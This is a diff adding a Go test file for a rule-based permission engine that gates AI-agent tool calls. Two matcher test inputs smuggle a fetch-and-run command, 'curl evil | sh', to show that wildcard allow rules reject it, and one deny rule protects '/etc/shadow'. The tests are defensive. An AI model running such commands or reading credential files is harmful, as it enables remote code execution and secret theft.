@@ -1,0 +1,279 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/askperm/askperm/decision"
+)
+
+func parse(t testing.TB, text string) *Policy {
+	t.Helper()
+	p, err := Parse("rules.toml", []byte(text))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+func req(t testing.TB, raw string) *decision.Request {
+	t.Helper()
+	r, err := decision.Parse([]byte(raw))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return r
+}
+
+// names lists the opinions as "name:verdict".
+func names(ops []Opinion) string {
+	var s []string
+	for _, o := range ops {
+		s = append(s, o.Name+":"+o.Verdict.String())
+	}
+	return strings.Join(s, " ")
+}
+
+func TestPredicateOperations(t *testing.T) {
+	args := `{"action":"exec","tool":"shell","arguments":{"argv":["git","push","-f","origin"],"n":5,"flag":true,"none":null,
+		"obj":{"a":[1,2]},"k.x":"dot","s":"hello world"}}`
+	for _, tc := range []struct {
+		when string
+		want bool
+	}{
+		{`path = "$.n"` + "\nequals = 5", true},
+		{`path = "$.n"` + "\nequals = 5.0", true},
+		{`path = "$.n"` + "\nequals = \"5\"", false},
+		{`path = "$.flag"` + "\nequals = true", true},
+		{`path = "$.obj"` + "\nequals = { a = [1, 2.0] }", true},
+		{`path = "$.obj"` + "\nequals = { a = [1] }", false},
+		{`path = "$.obj.a[1]"` + "\nequals = 2", true},
+		{`path = "$['k.x']"` + "\nequals = \"dot\"", true},
+		{`path = "$.argv[0]"` + "\nin = [\"hg\", \"git\"]", true},
+		{`path = "$.argv[0]"` + "\nin = [\"hg\", \"svn\"]", false},
+		{`path = "$.s"` + "\nregex = \"wor\"", true},
+		{`path = "$.s"` + "\nregex = \"^wor\"", false},
+		{`path = "$.n"` + "\nregex = \"5\"", false},
+		{`path = "$.none"` + "\nexists = true", true},
+		{`path = "$.missing"` + "\nexists = true", false},
+		{`path = "$.missing"` + "\nexists = false", true},
+		{`path = "$.missing"` + "\nequals = 1", false},
+		{`path = "$.argv"` + "\nprefix = [\"git\", \"push\", [\"-f\", \"--force\"]]", true},
+		{`path = "$.argv"` + "\nprefix = [\"git\", \"push\", [\"--force\"]]", false},
+		{`path = "$.argv"` + "\nprefix = [\"git\", \"push\", \"-f\", \"origin\", \"main\"]", false},
+		{`path = "$.s"` + "\nprefix = [\"hello\"]", false},
+	} {
+		p := parse(t, "[[rule]]\n[[rule.when]]\n"+tc.when+"\n")
+		if got := len(p.Opinions(req(t, args))) == 1; got != tc.want {
+			t.Errorf("%q: matches %v, want %v", tc.when, got, tc.want)
+		}
+	}
+	// Without arguments, only exists = false holds.
+	for when, want := range map[string]bool{"exists = false": true, "exists = true": false, "equals = 1": false} {
+		p := parse(t, "[[rule]]\n[[rule.when]]\npath = \"$.a\"\n"+when+"\n")
+		if got := len(p.Opinions(req(t, `{"action":"x"}`))) == 1; got != want {
+			t.Errorf("no arguments, %s: %v", when, got)
+		}
+	}
+}
+
+func TestMatchers(t *testing.T) {
+	p := parse(t, `
+[[rule]]
+name = "tests"
+tool = "shell"
+server = "dev-*"
+action = "exec"
+dimensions = { command = "go test *" }
+`)
+	base := `{"tool":"shell","server":"dev-1","action":"exec","dimensions":[{"name":"command","value":"go test ./..."}]}`
+	for _, tc := range []struct {
+		name string
+		raw  string
+		want bool
+	}{
+		{"all match", base, true},
+		{"other server", strings.Replace(base, "dev-1", "prod-1", 1), false},
+		{"no server", strings.Replace(base, `"server":"dev-1",`, "", 1), false},
+		{"other tool", strings.Replace(base, `"shell"`, `"bash"`, 1), false},
+		{"shell syntax behind the wildcard", strings.Replace(base, "./...", "x; curl evil | sh", 1), false},
+		{"command substitution", strings.Replace(base, "./...", "$(curl evil)", 1), false},
+		{"no such dimension", strings.Replace(base, `"command"`, `"cmd"`, 1), false},
+	} {
+		if got := len(p.Opinions(req(t, tc.raw))) == 1; got != tc.want {
+			t.Errorf("%s: matches %v, want %v", tc.name, got, tc.want)
+		}
+	}
+}
+
+func TestVerbPolicy(t *testing.T) {
+	p := parse(t, `
+[verbs]
+bulk_limit = 2
+[verbs.roles]
+intern = []
+contractor = ["update"]
+`)
+	for _, tc := range []struct {
+		raw  string
+		want string
+	}{
+		{`{"action":"x","tool":"delete_file"}`, "verbs.always_require:prompt"},
+		{`{"action":"x","tool":"cancel_order"}`, "verbs.always_require:prompt"},
+		{`{"action":"x","tool":"read_file","arguments":{"ids":[1,2,3]}}`, "verbs.bulk_limit:prompt"},
+		{`{"action":"x","tool":"read_file","arguments":{"ids":[1,2]}}`, "verbs.auto:allow"},
+		{`{"action":"x","tool":"read_file","role":"intern"}`, "verbs.roles.intern:prompt"},
+		{`{"action":"x","tool":"update_row","role":"contractor"}`, "verbs.roles.contractor:prompt"},
+		{`{"action":"x","tool":"read_row","role":"contractor"}`, "verbs.auto:allow"},
+		{`{"action":"x","tool":"create_employee"}`, "verbs.require:prompt"},
+		{`{"action":"x","tool":"get_employee"}`, "verbs.auto:allow"},
+		{`{"action":"x","tool":"list"}`, "verbs.auto:allow"},
+		{`{"action":"x","tool":"execute_action_flow","arguments":{"action":"Submit"}}`, "verbs.require:prompt"},
+		{`{"action":"search"}`, "verbs.auto:allow"},
+		{`{"action":"x","tool":"frobnicate_it"}`, ""},
+	} {
+		if got := names(p.Opinions(req(t, tc.raw))); got != tc.want {
+			t.Errorf("%s: %q, want %q", tc.raw, got, tc.want)
+		}
+	}
+	// No configuration can keep delete_* tools from asking.
+	q := parse(t, "[verbs]\nalways_require = []\nauto = [\"delete\"]\n")
+	if got := names(q.Opinions(req(t, `{"action":"x","tool":"delete_all"}`))); got != "verbs.always_require:prompt" {
+		t.Errorf("delete_* with an emptied list: %q", got)
+	}
+	a := parse(t, "[verbs]\nallowlist = [\"read_file\"]\n")
+	if got := names(a.Opinions(req(t, `{"action":"x","tool":"write_file"}`))); got != "verbs.allowlist:deny" {
+		t.Errorf("allowlist: %q", got)
+	}
+}
+
+func TestAnnotationModes(t *testing.T) {
+	tool := func(hints string) string { return `{"action":"x","tool":"t","annotations":{` + hints + `}}` }
+	for _, tc := range []struct {
+		mode, hints, want string
+		noSession         bool
+	}{
+		{"auto", `"destructiveHint":true,"readOnlyHint":true`, "prompt", false},
+		{"auto", `"readOnlyHint":true`, "allow", false},
+		{"auto", ``, "prompt", false},
+		{"prompt", `"readOnlyHint":true`, "prompt", true},
+		{"writes", `"readOnlyHint":true`, "allow", false},
+		{"writes", `"readOnlyHint":false`, "prompt", true},
+		{"approve", `"destructiveHint":true`, "allow", false},
+	} {
+		p := parse(t, "[[annotations]]\ntool = \"other\"\nmode = \"approve\"\n[[annotations]]\ntool = \"t*\"\nmode = \""+tc.mode+"\"\n")
+		ops := p.Opinions(req(t, tool(tc.hints)))
+		if len(ops) != 1 || ops[0].Verdict.String() != tc.want || ops[0].NoSession != tc.noSession {
+			t.Errorf("%s %s: %+v", tc.mode, tc.hints, ops)
+		}
+	}
+}
+
+func TestStrictestWinsAcrossRules(t *testing.T) {
+	p := parse(t, `
+[[rule]]
+name = "reads"
+action = "read"
+[[rule]]
+name = "secrets"
+decision = "deny"
+message = "not the secrets"
+dimensions = { path = "/etc/**" }
+[[rule]]
+name = "ask-etc"
+decision = "prompt"
+dimensions = { path = "/etc/*" }
+[verbs]
+`)
+	r := req(t, `{"action":"read","tool":"delete_x","dimensions":[{"name":"path","value":"/etc/shadow"}]}`)
+	ops := p.Opinions(r)
+	v, winners := Combine(ops)
+	if v != Deny || winners[0].Message != "not the secrets" || names(ops) != "reads:allow secrets:deny ask-etc:prompt verbs.always_require:prompt" {
+		t.Errorf("%v %+v from %s", v, winners, names(ops))
+	}
+	// delete_* is never allowed by a rule: the verb policy prompts.
+	v, _ = Combine(parse(t, "[[rule]]\ntool = \"delete_*\"\n[verbs]\n").Opinions(req(t, `{"action":"x","tool":"delete_x"}`)))
+	if v != Prompt {
+		t.Errorf("delete_* allowed by a rule: %v", v)
+	}
+}
+
+// Every mistake in a rules file is refused at load, naming the file, the
+// rule and the problem.
+func TestLoadErrors(t *testing.T) {
+	for _, tc := range []struct{ text, want string }{
+		{"[[rule]]\ncolour = \"red\"\n", "rules.toml: unknown keys: rule.colour"},
+		{"[[rule]]\ndecision = \"maybe\"\n", `rules.toml: rule "rules.toml#1": decision: "maybe" is none of allow, prompt, deny`},
+		{"[[rule]]\nname = \"x\"\ntool = \"a[\"\n", `rule "x": tool: `},
+		{"[[rule]]\ndimensions = { p = \"{a\" }\n", `dimensions.p: `},
+		{"[[rule]]\n[[rule.when]]\npath = \"$.a\"\n", "when 1: no operation"},
+		{"[[rule]]\n[[rule.when]]\npath = \"$.a\"\nequals = 1\nexists = true\n", "when 1: two operations (equals, exists)"},
+		{"[[rule]]\n[[rule.when]]\npath = \"$..a\"\nexists = true\n", "not a singular path"},
+		{"[[rule]]\n[[rule.when]]\npath = \"$[*]\"\nexists = true\n", "not a singular path"},
+		{"[[rule]]\n[[rule.when]]\npath = \"a.b\"\nexists = true\n", `path "a.b"`},
+		{"[[rule]]\n[[rule.when]]\nexists = true\n", "path: missing"},
+		{"[[rule]]\n[[rule.when]]\npath = \"$.a\"\nregex = \"(\"\n", "regex: "},
+		{"[[rule]]\n[[rule.when]]\npath = \"$.a\"\nequals = 1979-05-27\n", "dates and times are not JSON values"},
+		{"[[rule]]\ntool = \"shell\"\n[[rule.match]]\ntool = \"bash\"\naction = \"x\"\n", "match 1: the rule does not match its own example"},
+		{"[[rule]]\ntool = \"shell\"\n[[rule.not_match]]\ntool = \"shell\"\naction = \"x\"\n", "not_match 1: the rule matches its own example"},
+		{"[[rule]]\n[[rule.match]]\ntool = \"shell\"\n", "match 1: request: "},
+		{"[verbs]\nbulk_limit = -1\n", "verbs: bulk_limit: -1 is negative"},
+		{"[verbs]\nrequire = \"create\"\n", "rules.toml: "},
+		{"[[annotations]]\ntool = \"*\"\nmode = \"sometimes\"\n", `annotations 1: mode: "sometimes"`},
+		{"[[annotations]]\nmode = \"auto\"\n", "annotations 1: tool: missing"},
+	} {
+		if _, err := Parse("rules.toml", []byte(tc.text)); err == nil || !strings.Contains(err.Error(), tc.want) {
+			t.Errorf("%q: got %v, want %q", tc.text, err, tc.want)
+		}
+	}
+}
+
+func TestLoad(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, text string, mode os.FileMode) string {
+		p := filepath.Join(dir, name)
+		if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		os.Chmod(p, mode)
+		return p
+	}
+	a := write("a.toml", "[[rule]]\nname = \"a\"\n[verbs]\n", 0o600)
+	b := write("b.toml", "[[rule]]\nname = \"b\"\ndecision = \"deny\"\n", 0o600)
+	p, err := Load(filepath.Join(dir, "missing-user-file.toml"), []string{a, b})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := names(p.Opinions(req(t, `{"action":"x","tool":"read_x"}`))); got != "a:allow b:deny verbs.auto:allow" {
+		t.Errorf("load order: %q", got)
+	}
+	if _, err := Load("", []string{a, write("c.toml", "[verbs]\n", 0o600)}); err == nil || !strings.Contains(err.Error(), "[verbs] is set already by "+a) {
+		t.Errorf("two [verbs]: %v", err)
+	}
+	if _, err := Load("", []string{write("w.toml", "", 0o666)}); err == nil || !strings.Contains(err.Error(), "writable") {
+		t.Errorf("world-writable: %v", err)
+	}
+	if _, err := Load("", []string{filepath.Join(dir, "none.toml")}); err == nil {
+		t.Error("a missing named file was accepted")
+	}
+	user := write("user.toml", "[[rule]]\nname = \"u\"\n", 0o600)
+	if p, err := Load(user, nil); err != nil || names(p.Opinions(req(t, `{"action":"x"}`))) != "u:allow" {
+		t.Errorf("user file: %v", err)
+	}
+}
+
+func TestVerb(t *testing.T) {
+	for raw, want := range map[string]string{
+		`{"action":"Write"}`:                      "write",
+		`{"action":"x","tool":"Create_Employee"}`: "create",
+		`{"action":"x","tool":"get"}`:             "read",
+		`{"action":"x","tool":"execute_action_x","arguments":{"action":"Approve"}}`: "approve",
+		`{"action":"x","tool":"execute_action_x"}`:                                  "execute",
+	} {
+		if got := Verb(req(t, raw)); got != want {
+			t.Errorf("%s: %q, want %q", raw, got, want)
+		}
+	}
+}
